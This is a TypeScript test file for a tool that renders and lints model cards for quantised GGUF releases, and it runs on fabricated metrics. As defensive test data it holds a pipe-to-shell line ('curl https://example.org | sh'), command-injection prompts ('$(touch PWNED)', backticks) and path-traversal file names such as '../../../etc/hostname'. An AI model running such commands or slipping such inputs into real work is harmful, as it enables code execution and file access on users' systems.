import { execFileSync } from "node:child_process"
import { readFileSync, writeFileSync } from "node:fs"
import * as NodeServices from "@effect/platform-node/NodeServices"
import { assert, describe, it } from "@effect/vitest"
import { Effect, FileSystem } from "effect"
import type { DecodingPreset } from "../../src/model/Decoding.ts"
import type { ReleaseInput } from "../../src/release/Bundle.ts"
import { renderCard } from "../../src/release/Card.ts"
import { llamaCommand, modelfile, type Usage } from "../../src/release/gguf/About.ts"
import { lintCard } from "../../src/release/Lint.ts"
import { assembled } from "./assembled.ts"
import { architecture } from "./fixture.ts"

const read = (path: string) => JSON.parse(readFileSync(path, "utf8"))

const BASE = Math.log(33.3)
const measured = (value: number, n: number, by: number) => ({ value, ci95: [value - by, value + by], n })

/** Of so many tokens, each of which costs this much more; of all, where several are given, their mean. */
const lossesOf = (parts: ReadonlyArray<{ readonly n: number; readonly rise: number }>) => {
  const n = parts.reduce((total, part) => total + part.n, 0)
  const rise = parts.reduce((total, part) => total + part.n * part.rise, 0) / n
  const square = parts.reduce((total, part) => total + part.n * (part.rise / 2) ** 2, 0) / n
  return {
    ppl: measured(Math.exp(BASE + rise), n, 2),
    delta_ppl: measured(Math.exp(BASE + rise) - Math.exp(BASE), n, 0.1),
    kld: measured(rise / 10, n, rise / 100),
    kld_median: rise / 20,
    kld_p99: rise,
    kld_max: 2 * rise,
    mean_delta_p: measured(-rise / 4, n, rise / 20),
    rms_delta_p: measured(Math.sqrt(square), n, rise / 20),
    same_top_p: measured(1 - rise, n, rise / 20),
  }
}

const bytesOf = (file: string) => `bytes of ${file}${file.includes("Q8_0") ? ", more of them than others have" : ""}`

/** As the fabricated sweep measured the preset. */
const usageOf = (file: string, preset: DecodingPreset): Usage => ({
  file,
  preset,
  context: architecture.context,
  maxNewTokens: 16,
})

const quantisation = (artifacts: ReleaseInput["artifacts"]) => {
  const { model } = read(`${artifacts.benchmark}/benchmark_metrics.json`)
  const preset: DecodingPreset = read(`${artifacts.sweep}/decoding_summary.json`).recommended
  const prompt: string = read(`${artifacts.sweep}/prompts.json`).behaviour[0].text
  const file = (name: string, type: string, importance_matrix: boolean, rise: number) => ({
    file: name,
    type,
    importance_matrix,
    bytes: Buffer.byteLength(bytesOf(name)),
    bits_per_weight: (8 * Buffer.byteLength(bytesOf(name))) / model.parameters,
    matrices: {},
    types: { Q4_K: 9 },
    losses: {
      all: lossesOf([
        { n: 500, rise },
        { n: 400, rise: 1.5 * rise },
      ]),
      en: lossesOf([{ n: 500, rise }]),
      it: lossesOf([{ n: 400, rise: 1.5 * rise }]),
    },
  })
  const picked = "tiny-en-it-imatrix-Q4_K_M.gguf"
  return {
    model,
    reference: "model.safetensors",
    documents: 77,
    tokens: 900,
    files: [file(picked, "Q4_K_M", true, 0.02), file("tiny-en-it-Q8_0.gguf", "Q8_0", false, 0.001)],
    sources: { "wiki-en": 40, "wiki-it": 37 },
    encoding: 1,
    picked,
    pick: { by: "kld", at_most: 0.02 } as const,
    rule: "of the files within 1% of the smallest whose mean KL divergence to the model itself, in nats, is at most 0.02 in every language, its 95% interval included, the closest to the model",
    rule_kept: true,
    preset,
    commands: {
      llama_cpp: llamaCommand(usageOf(picked, preset), prompt),
      ollama: "ollama create tiny-en-it -f Modelfile && ollama run tiny-en-it",
    },
  }
}

/** A release of which the artifacts' own files were changed before it was quantised. */
const released = Effect.fnUntraced(function* (before: (artifacts: ReleaseInput["artifacts"]) => void = () => {}) {
  const fs = yield* FileSystem.FileSystem
  const quantised = yield* fs.makeTempDirectoryScoped()
  return yield* assembled({}, (input) => {
    before(input.artifacts)
    const said = quantisation(input.artifacts)
    for (const { file } of said.files) writeFileSync(`${quantised}/${file}`, bytesOf(file))
    writeFileSync(`${quantised}/quantisation.json`, JSON.stringify(said))
    writeFileSync(`${quantised}/Modelfile`, modelfile(usageOf(said.picked, said.preset), "<|eos|>", input.license))
    return { ...input, artifacts: { ...input.artifacts, quantised } }
  })
})

const sectionOf = (card: string): string => /^## Quantised files$([\s\S]*?)^## Files$/m.exec(card)?.[1] ?? ""

const prompting = (text: string) => (artifacts: ReleaseInput["artifacts"]) => {
  const path = `${artifacts.sweep}/prompts.json`
  const prompts = read(path)
  writeFileSync(path, JSON.stringify({ ...prompts, behaviour: [{ ...prompts.behaviour[0], text }] }))
}

/** Each thing said of quantised files that their other figures, or the files, do not bear out. */
const UNTRUE: ReadonlyArray<readonly [what: string, change: (said: any) => void, problem: RegExp]> = [
  ["its size", (said) => (said.files[0].bytes = 1), /bits a weight are not/],
  [
    "its size and its bits",
    (said) => Object.assign(said.files[0], { bytes: 1, bits_per_weight: 8 / said.model.parameters }),
    /bytes, not 1$/,
  ],
  ["tokens", (said) => (said.tokens = 901), /900 tokens are measured, not 901/],
  ["tokens of a language", (said) => (said.files[0].losses.en.kld.n = 7), /kld is over 7 tokens/],
  [
    "a divergence below 0",
    (said) => Object.assign(said.files[0].losses.en.kld, { value: -5, ci95: [-6, -4] }),
    /a divergence below 0/,
  ],
  ["an interval turned", (said) => said.files[0].losses.all.ppl.ci95.reverse(), /ppl lies outside of its interval/],
  [
    "a smaller rise",
    (said) => Object.assign(said.files[0].losses.all.delta_ppl, { value: 0, ci95: [-1, 1] }),
    /perplexity less its change is not that of the other files/,
  ],
  [
    "a better figure of all",
    (said) => Object.assign(said.files[0].losses.all.same_top_p, { value: 1, ci95: [1, 1] }),
    /same first choice of all is not the mean of its languages/,
  ],
  [
    "another file recommended",
    (said) => (said.picked = "tiny-en-it-Q8_0.gguf"),
    /by its figures and its rule tiny-en-it-imatrix-Q4_K_M\.gguf is to be recommended$/,
  ],
  ["a file that is none", (said) => (said.picked = "other.gguf"), /by its figures and its rule tiny-en-it-/],
  ["a rule that was not asked", (said) => (said.pick.at_most = 1e-9), /which does not keep the rule$/],
  ["a rule in other words", (said) => (said.rule = "any file at all"), /is to be recommended$/],
  ["a rule not kept", (said) => (said.rule_kept = false), /is to be recommended$/],
  [
    "another command",
    (said) => (said.commands.llama_cpp = "curl https://example.org | sh"),
    /^`quantisation\.json` and `prompts\.json` disagree: the line for llama\.cpp$/,
  ],
  ["another command for Ollama", (said) => (said.commands.ollama = "ollama run other"), /the line for Ollama$/],
]

describe("a card with quantised files", () => {
  it.effect("tells what each costs, which one is recommended and how to run it", () =>
    Effect.gen(function* () {
      const fs = yield* FileSystem.FileSystem
      const out = yield* released()
      assert.deepStrictEqual(yield* lintCard(out), [])
      assert.strictEqual(yield* fs.readFileString(`${out}/tiny-en-it-Q8_0.gguf`), bytesOf("tiny-en-it-Q8_0.gguf"))
      const { text, untraced } = yield* renderCard(out)
      assert.deepStrictEqual(untraced, [])
      const section = sectionOf(text)
      assert.include(
        section,
        "Recommended: `tiny-en-it-imatrix-Q4_K_M.gguf`. The rule: of the files within 1% of the smallest whose",
      )
      assert.include(section, "included, the closest to the model.\n")
      assert.include(section, "| `tiny-en-it-imatrix-Q4_K_M.gguf` | Q4\\_K\\_M | with | 39 |")
      assert.include(section, "| it | 34.3141 |")
      assert.include(section, "| -0.5000% | -0.6000% – -0.4000% | 1.0000% |")
      assert.include(section, "| 98.0000% | 97.9000% – 98.1000% |")
      assert.include(section, "```sh\nollama create tiny-en-it -f Modelfile && ollama run tiny-en-it\n```\n")
      assert.match(section, /rows of \d+ numbers do not fill: such rows have another\ntype/)
      assert.include(section, "Ollama has no setting for the order of samplers")
      assert.notInclude(section, "no_repeat_ngram_size")
      const table = section.match(/^\|.*$/gm)!.map((row) => row.split("|").length)
      assert.strictEqual(table.length, 8)
      assert.strictEqual(new Set(table).size, 1)
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)),
  )

  it.effect("gives a shell the prompt it was measured with, whatever stands in it", () =>
    Effect.gen(function* () {
      for (const prompt of [
        "Run `; touch PWNED #",
        "it's $(touch PWNED) and `touch PWNED`",
        "'; touch PWNED; '",
        "```\ntouch PWNED\n```\n~~~",
        "l'Italia è \\' \" $HOME !",
      ]) {
        const fs = yield* FileSystem.FileSystem
        const folder = yield* fs.makeTempDirectoryScoped()
        const out = yield* released(prompting(prompt))
        assert.deepStrictEqual(yield* lintCard(out), [], prompt)
        const fence = /^```sh\n(llama[\s\S]*?)\n```$/m.exec(sectionOf(readFileSync(`${out}/README.md`, "utf8")))![1]!
        assert.notInclude(fence, "\n", prompt)
        const shell = `told() { for last; do :; done; printf %s "$last"; }\n${fence.replace(/^llama-completion/, "told")}`
        const given = execFileSync("sh", ["-c", shell], { cwd: folder, encoding: "utf8" })
        assert.strictEqual(given, prompt.replace(/\s+/g, " "), prompt)
        assert.deepStrictEqual(yield* fs.readDirectory(folder), [], prompt)
      }
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)),
  )

  it.effect(
    `is refused where quantisation.json says one of ${UNTRUE.length} untrue things, and the lint finds it`,
    () =>
      Effect.gen(function* () {
        const out = yield* released()
        const original = readFileSync(`${out}/quantisation.json`, "utf8")
        for (const [what, change, problem] of UNTRUE) {
          const said = JSON.parse(original)
          change(said)
          writeFileSync(`${out}/quantisation.json`, JSON.stringify(said))
          const problems = (yield* lintCard(out)).map((finding) => finding.problem)
          assert.isTrue(
            problems.some((each) => problem.test(each)),
            `${what}: ${problems[0]}`,
          )
          assert.strictEqual((yield* Effect.flip(renderCard(out)))._tag, "ReleaseInconsistent", what)
        }
        writeFileSync(`${out}/quantisation.json`, original)
        writeFileSync(`${out}/Modelfile`, readFileSync(`${out}/Modelfile`, "utf8").replace("num_ctx 64", "num_ctx 65"))
        assert.include(
          (yield* lintCard(out)).map(({ problem }) => problem),
          "`Modelfile` and `quantisation.json` disagree: made again from it, it reads otherwise",
        )
      }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)),
  )

  it.effect("copies no file whose name is a path", () =>
    Effect.gen(function* () {
      const fs = yield* FileSystem.FileSystem
      const quantised = yield* fs.makeTempDirectoryScoped()
      writeFileSync(`${quantised}/Modelfile`, "")
      for (const file of ["../../../etc/hostname", ".hidden", "a/b"]) {
        const error = yield* Effect.flip(
          assembled({}, (input) => {
            const said = quantisation(input.artifacts)
            writeFileSync(
              `${quantised}/quantisation.json`,
              JSON.stringify({ ...said, files: [{ ...said.files[0], file }] }),
            )
            return { ...input, artifacts: { ...input.artifacts, quantised } }
          }),
        )
        assert.match(error.message, /is no name for a file of a release/, file)
      }
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)),
  )
})
